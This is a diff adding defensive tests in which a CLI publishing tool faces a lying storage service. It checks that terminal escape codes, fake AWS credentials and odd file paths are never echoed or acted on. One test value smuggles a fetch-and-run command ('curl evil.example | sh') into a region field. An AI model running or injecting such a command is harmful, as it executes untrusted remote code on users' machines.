@@ -1,6 +1,7 @@
 import { readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
+import { formatManifest, readManifest } from '../../src/site/manifest.ts';
 import { responseText } from '../publish/response-text.ts';
 import { noteText } from '../temporary.ts';
 import { good } from './notes.ts';
@@ -14,6 +15,72 @@ test('a published release whose name could control the terminal is printed with 
     String.raw`the published release "3\u001b[31m" has no note`,
   );
   expect((await start(['--force'])).stdout).toContain(String.raw`is 2.0; it was 3\u001b[31m. `);
+});
+
+describe('a store that lies', () => {
+  const redirect = (region: string) => ({
+    name: 'x-amz-bucket-region',
+    value: region,
+    body: `<Error><Code>PermanentRedirect</Code><Region>${region}</Region></Error>`,
+  });
+
+  test.each(['\u009B31mred', 'eu-west-1; curl evil.example | sh', 'x'.repeat(41)])(
+    'cannot name a region %j in a command to copy',
+    async (region) => {
+      const { store, start } = await open();
+      const { name, value, body } = redirect(region);
+      store.hooks.intercept = (_, response) => {
+        response.writeHead(301, { [name]: value }).end(body);
+        return true;
+      };
+      expect(await start()).toMatchObject({
+        exitCode: 2,
+        stderr: expect.stringMatching(
+          /: the service responded with 301 PermanentRedirect; check that --endpoint/,
+        ),
+      });
+    },
+  );
+
+  test('cannot have a credential printed', async () => {
+    const secrets = {
+      AWS_ACCESS_KEY_ID: 'akexample0123456789',
+      AWS_SECRET_ACCESS_KEY: 'secret-secret-secret',
+      AWS_SESSION_TOKEN: 'token-token-token',
+    };
+    for (const secret of Object.values(secrets)) {
+      const { store, start } = await open();
+      store.hooks.intercept = (_, response) => {
+        response.writeHead(301).end(redirect(secret).body);
+        return true;
+      };
+      const env = { ...secrets, AWS_ENDPOINT_URL: store.endpoint };
+      const { stderr } = await start([], { env });
+      expect(stderr).toContain('is in the region …; set AWS_REGION=…');
+      expect(stderr).not.toContain(secret);
+    }
+  });
+
+  test.each(['art/\u001B[31m.png', 'art/\uD800.png'])(
+    'cannot have the path %j deleted or printed',
+    async (path) => {
+      const { store, out, start } = await open();
+      await start();
+      const files = [...(readManifest(out)?.files ?? []), { path, sha256: '0'.repeat(64) }];
+      store.put('.gazette.json', formatManifest({ files }));
+      store.hooks.intercept = ({ method }, response) => {
+        if (method === 'DELETE') response.writeHead(403).end();
+        return method === 'DELETE';
+      };
+      for (const argv of [['--delete', '--dry-run'], ['--delete']]) {
+        expect(await start(argv)).toMatchObject({
+          exitCode: 0,
+          stdout: expect.not.stringMatching(/\u001B|delete/i),
+          stderr: '',
+        });
+      }
+    },
+  );
 });
 
 describe('a release that must not be replaced exits with 3', () => {
